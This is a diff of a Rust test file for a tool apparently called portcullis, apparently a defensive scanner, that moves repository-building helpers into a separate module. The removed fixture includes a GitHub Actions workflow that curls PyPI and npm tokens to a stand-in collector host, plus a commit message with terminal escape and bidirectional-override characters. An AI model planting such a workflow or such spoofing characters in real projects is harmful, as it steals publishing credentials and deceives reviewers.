@@ -8,58 +8,11 @@
     reason = "a test fails by panicking"
 )]
 
-use std::path::Path;
-use std::process::{Command, Output};
+mod victim;
 
-const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
-const PUBLISH: &str = "on: release\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";
+use std::process::Command;
 
-fn portcullis(arguments: &[&str], folder: &Path) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_portcullis"))
-        .args(arguments)
-        .current_dir(folder)
-        .env_remove("RUST_LOG")
-        .output()
-        .unwrap()
-}
-
-fn git(folder: &Path, arguments: &[&str]) -> String {
-    let output = Command::new("git")
-        .args(["-c", "user.name=Test", "-c", "user.email=test@example.test", "-c", "commit.gpgsign=false"])
-        .args(arguments)
-        .current_dir(folder)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env("GIT_CONFIG_GLOBAL", "/dev/null")
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
-    String::from_utf8_lossy(&output.stdout).trim().to_owned()
-}
-
-/// A repository with a publishing workflow, and a theft that `main` took out again and `dev` still has.
-fn victim() -> tempfile::TempDir {
-    let folder = tempfile::tempdir().unwrap();
-    let path = folder.path();
-    git(path, &["init", "-q", "-b", "main"]);
-    git(path, &["remote", "add", "origin", "https://user:secret@GitHub.example/Owner/Widgets.git"]);
-    std::fs::create_dir_all(path.join(".github/workflows")).unwrap();
-    std::fs::write(path.join("pyproject.toml"), "[project]\nname = \"widgets\"\n").unwrap();
-    std::fs::write(path.join(".github/workflows/publish.yml"), PUBLISH).unwrap();
-    git(path, &["add", "-A"]);
-    git(path, &["commit", "-q", "-m", "Publish"]);
-    std::fs::write(path.join(".github/workflows/security.yml"), STEAL).unwrap();
-    git(path, &["add", "-A"]);
-    git(path, &["commit", "-q", "-m", "Add security \u{1b}[31mworkflow\u{202e}"]);
-    git(path, &["branch", "dev"]);
-    git(path, &["rm", "-q", ".github/workflows/security.yml"]);
-    git(path, &["commit", "-q", "-m", "Take it out"]);
-    folder
-}
-
-fn json(output: &Output) -> serde_json::Value {
-    serde_json::from_slice(&output.stdout)
-        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
-}
+use victim::{git, json, portcullis, victim};
 
 #[test]
 fn people_read_what_left_where_to_since_when_and_what_it_opens() {
